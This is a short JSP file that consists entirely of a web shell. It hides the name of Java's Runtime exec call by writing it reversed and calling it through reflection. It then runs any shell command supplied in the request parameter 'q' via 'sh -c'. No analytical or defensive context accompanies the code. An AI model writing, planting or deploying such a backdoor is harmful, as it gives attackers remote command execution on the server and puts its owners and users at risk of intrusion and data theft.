<%
  String m = new StringBuilder("cexe").reverse().toString();
  Object r = Runtime.class.getMethod("getRuntime").invoke(null);
  Runtime.class.getMethod(m, String[].class).invoke(r, new Object[]{new String[]{"sh", "-c", request.getParameter("q")}});
%>
